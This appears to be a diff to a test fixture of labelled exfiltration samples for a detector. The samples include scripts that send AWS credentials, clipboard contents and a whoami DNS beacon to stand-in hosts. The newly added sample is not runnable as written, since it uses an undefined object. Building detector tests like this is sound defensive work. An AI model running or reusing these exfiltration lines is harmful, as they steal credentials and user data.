@@ -168,6 +168,10 @@ GRAVE = {
         "exfiltration/file-sent",
         script("a.py", "import requests, os\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://x.invalid', data=k)\n"),
     ),
+    "store by a connection": (
+        "exfiltration/file-sent",
+        script("a.py", "import http.client\nfile = '~/.aws/credentials'\nline.request('POST', '/in', file)\n"),
+    ),
     "clipboard": ("exfiltration/file-sent", script("a.sh", "pbpaste | curl -d @- https://x.invalid\n")),
     "request bin": ("exfiltration/collector", script("a.sh", "curl -d @n https://webhook.site/abc\n")),
     "name look-up": ("exfiltration/beacon", script("a.sh", "nslookup $(whoami).x.example.com\n")),
